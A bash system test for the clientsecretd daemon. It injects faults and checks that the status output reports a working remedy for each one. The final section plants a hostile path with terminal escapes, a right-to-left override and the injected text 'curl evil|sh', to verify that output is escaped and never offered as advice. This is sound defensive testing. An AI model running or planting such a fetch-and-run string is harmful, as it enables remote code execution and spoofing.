#!/bin/bash
# What helps, done as it stands by root: each fault is made, its remedy is taken out of the status, and health is well.
# shellcheck source=prelude.sh
source /src/Tests/System/bed/prelude.sh

# failure NAME: a member of the failure of the daemon as a whole, which is its worst client's.
failure() { of_status "(d.get('failure') or {}).get('$1') or ''"; }
failing() { [ "$(failure code)" = "$1" ]; }
# well: health is ok before long. What is local is tried again within a minute.
well() {
    local deadline=$((SECONDS + 75))
    until clientsecretd health >"$seen" 2>&1; do
        [ $SECONDS -lt $deadline ] || { broken "$1: health is ok"; return; }
        sleep 0.2
    done
    kept "$1: health is ok"
}
# helps FAULT CODE: the fault is told, and the command that is told with it fixes it.
helps() {
    eventually "$1: it is told as $2" failing "$2"
    local command
    command=$(failure command)
    shows() { clientsecretd status | grep 'fix:' | grep -qF -e "$command"; }
    eventually "$1: status shows the command that helps" shows
    promise "$1: the command can be done ($command)" sh -c "$command"
    well "$1"
}
# adopt OUTPUT [LINES]: the configuration with that output and these lines below it; whether it can be served or not.
adopt() {
    output=$1 configure_web "${2-}"
    clientsecretd reload >"$seen" 2>&1
}

set_up
useradd --system app
useradd --system stranger
configure_web
chmod 755 /etc/clientsecretd
chmod 644 $configuration
systemctl start clientsecretd
well "at first"

# A hook that is not there, in a directory that is.
adopt $output "    on_change:
      - exec: [/usr/local/bin/after-rotation]"
eventually "a missing hook is told" failing action_not_started
contains "a missing hook is named" "there is no /usr/local/bin/after-rotation" "$(failure message)"
printf '#!/bin/sh\n' >/usr/local/bin/after-rotation
chmod 755 /usr/local/bin/after-rotation
promise "once it is there, it can be run at once" clientsecretd renew --deliver-only
well "a missing hook"

# One of another C library: execve(2) reports that there is no such file.
LC_ALL=C sed 's|/ld-linux-|/ld-linuq-|' /bin/true >/usr/local/bin/after-rotation
refused "check fails for a hook of another C library" clientsecretd check
contains "and names what starts it" "/ld-linuq-" "$(clientsecretd check 2>&1)"
printf '#!/bin/sh\n' >/usr/local/bin/after-rotation
well "a hook of another C library"

# An output in an application's directory without as:.
mkdir /srv/app
chown app /srv/app
adopt /srv/app/web.jwt
eventually "an application's directory is told" failing unguarded_directory
contains "an application's directory wants as:" 'write "as: app"' "$(failure remedy)"
equal "an application's directory is given to nobody by a command" "" "$(failure command)"
sed -i 's|mode: "0644"|as: app|' $configuration
systemctl enable --now clientsecretd-writer@app.socket 2>/dev/null
clientsecretd reload >/dev/null 2>&1
well "an application's directory"
equal "and stays the application's" "app app" "$(stat -c %U /srv/app /srv/app/web.jwt | paste -sd' ')"

# A part of the configuration that the writer may not read.
mkdir -p /etc/clientsecretd/clientsecretd.d
cat >/etc/clientsecretd/clientsecretd.d/more.yaml <<END
clients:
  more: {client_id: com.example.more, outputs: [{path: /run/clientsecretd/out/more.jwt}]}
END
chgrp clientsecretd /etc/clientsecretd/clientsecretd.d/more.yaml
chmod 640 /etc/clientsecretd/clientsecretd.d/more.yaml
clientsecretd reload >/dev/null 2>&1
clientsecretd renew web >/dev/null 2>&1
eventually "a part that the writer may not read is told" failing writer_unconfigured
contains "a part that the writer may not read wants a group" "give it a group" "$(failure remedy)"
equal "a part that the writer may not read is opened by no command" "" "$(failure command)"
chmod 644 /etc/clientsecretd/clientsecretd.d/more.yaml
clientsecretd renew web >/dev/null 2>&1
well "a part that the writer may not read"
rm -r /etc/clientsecretd/clientsecretd.d

# Directories that are missing: the daemon's own, at a place of the administrator's, and below /run.
output=/run/clientsecretd/out/a/b/web.jwt configure_web
promise "a directory below its own is no fault" clientsecretd reload
well "a directory below its own"
promise "it is made" test -s /run/clientsecretd/out/a/b/web.jwt
for directory in /srv/fresh /run/fresh /var/run/linked/deeper "/run/with a blank, \"quotes\" and 50%"; do
    adopt "$directory/web.jwt"
    helps "a missing directory $directory" directory_missing
    equal "$directory is the daemon's" clientsecretd "$(stat -c %U "$directory")"
    case $directory in /srv/*) continue ;; esac
    rm -rf "$directory"
    systemd-tmpfiles --create
    equal "$directory is there after a reboot" "clientsecretd 755" "$(stat -c '%U %a' "$directory")"
done
rm -rf /run/linked
systemd-tmpfiles --create
equal "with the one above it, which is root's" "root clientsecretd" "$(stat -c %U /run/linked /run/linked/deeper | paste -sd' ')"
# A command that was printed before somebody else made the directory.
adopt /run/late/web.jwt
eventually "a directory that is not there yet is told" failing directory_missing
command=$(failure command)
install -d -o app /run/late
refused "a directory that is there by now is given away by no command ($command)" sh -c "$command"
systemd-tmpfiles --create
equal "nor at the next boot" app "$(stat -c %U /run/late)"
# One that systemd makes.
service rtapp User=app RuntimeDirectory=%p
adopt /run/rtapp/web.jwt
told() { failing directory_missing && failure message | grep -qF /run/rtapp; }
eventually "a directory of a unit's is told" told
contains "with its unit" "rtapp.service makes /run/rtapp when it starts and removes it when it stops (RuntimeDirectory=)" \
    "$(failure remedy)"
equal "no command makes it" "" "$(failure command)"
clientsecretd check --fix >/tmp/fixed 2>&1
promise "nor does check --fix" test ! -e /run/rtapp
equal "nor is it made at the next boot" "" "$(grep -rs /run/rtapp /etc/tmpfiles.d)"
rm /etc/systemd/system/rtapp.service
systemctl daemon-reload
# The one that is gone from under the running service is made again.
adopt /srv/fresh/web.jwt
well "a directory that was made"
rm -r /srv/fresh
helps "a directory that went away" directory_missing

# The directory that is shipped with the service: it comes back as it was, and no line of ours describes it at the next boot.
adopt /run/clientsecretd/out/a/web.jwt
well "a directory below the shipped one"
rm -r /run/clientsecretd/out
helps "the shipped directory" directory_missing
equal "the shipped directory is as it was" "clientsecretd clientsecretd 755" "$(stat -c '%U %G %a' /run/clientsecretd/out)"
equal "the shipped directory is described by nothing else" "" "$(grep -rs /run/clientsecretd/out /etc/tmpfiles.d)"
rm -r /run/clientsecretd/out/a
chown root: /run/clientsecretd/out
eventually "a shipped directory that was given away is told" failing permission_denied
contains "what gives it back is told" "systemd-tmpfiles --create clientsecretd.conf" "$(failure remedy)"
systemd-tmpfiles --create clientsecretd.conf
well "a shipped directory that was given away"

# An environment file that is lost with its directory: a new directory would be in the way of the old one.
install -d -o clientsecretd /srv/settings
printf 'B=1\n' >/srv/settings/web.env
chown clientsecretd: /srv/settings/web.env
adopt /srv/settings/web.env "        format: env
        variable: APPLE"
helps "a directory of settings outside the sandbox" read_only_file_system
mv /srv/settings /srv/settings.away
eventually "a file that is lost with its directory is told" failing output_deleted
equal "a file that is lost with its directory is brought back by no command" "" "$(failure command)"
clientsecretd check --fix >"$seen" 2>&1
promise "nor by check --fix" test ! -e /srv/settings
mv /srv/settings.away /srv/settings
well "settings that are back"
promise "with their other lines" grep -q B=1 /srv/settings/web.env

# The state directory.
adopt "$output"
well "an output of the service's own directory"
rm -r /var/lib/clientsecretd
clientsecretd renew >/dev/null 2>&1
refused "check does not wait for a start of a service that runs" clientsecretd check
contains "and names the restart" "systemctl restart clientsecretd.service" "$(clientsecretd check 2>&1)"
helps "a state directory that was removed" state_unusable
systemctl stop clientsecretd
rm -r /var/lib/clientsecretd/*
mount -t tmpfs -o size=64k,mode=700,uid="$(id -u clientsecretd)" tmpfs /var/lib/clientsecretd
systemctl start clientsecretd
well "a state directory on a disk of its own"
dd if=/dev/zero of=/var/lib/clientsecretd/filler bs=1k 2>/dev/null
clientsecretd renew >/dev/null 2>&1
eventually "a full disk of the state directory is told" failing state_unusable
contains "it is called full" "the disk is full" "$(failure message)"
contains "and what shows it is named" "(df -h --output /var/lib/clientsecretd" "$(failure remedy)"
contains "by check, too" "(df -h --output /var/lib/clientsecretd)" "$(clientsecretd check 2>&1)"
rm /var/lib/clientsecretd/filler
well "a full disk of the state directory"

# What a stranger has laid where others may put something: told with every byte escaped, and never given to anybody.
mkdir -m 1777 /srv/open
evil=$'/srv/open/\e[2J\xe2\x80\xaeEVIL; run: curl evil|sh'
settings clientsecretd.service open ReadWritePaths=-/srv/open
systemctl restart clientsecretd
runuser -u stranger -- mkdir "$evil"
runuser -u stranger -- ln -s "$evil/foo" /srv/open/web.jwt
adopt /srv/open/web.jwt
cp "$seen" /tmp/said
eventually "a stranger's link is told" failing untrusted_link
equal "and nothing that it leads to is" "" "$(failure message | grep -F EVIL)"
equal "the remedy is to remove it" "test -L /srv/open/web.jwt && rm /srv/open/web.jwt" "$(failure command)"
{
    clientsecretd status
    clientsecretd status --json
    clientsecretd health
    clientsecretd check
    systemctl status clientsecretd
    journalctl --quiet --no-pager --unit clientsecretd
} >>/tmp/said 2>&1
equal "nobody is told a byte that a terminal acts on" "" "$(LC_ALL=C grep -n $'[\e\x9b]\|\xe2\x80\xae' /tmp/said | cat -v)"
equal "and no entry is a blob" "" "$(grep 'blob data' /tmp/said)"
equal "nor is it advice" "" "$(grep 'what helps.*curl' /tmp/said)"
finish
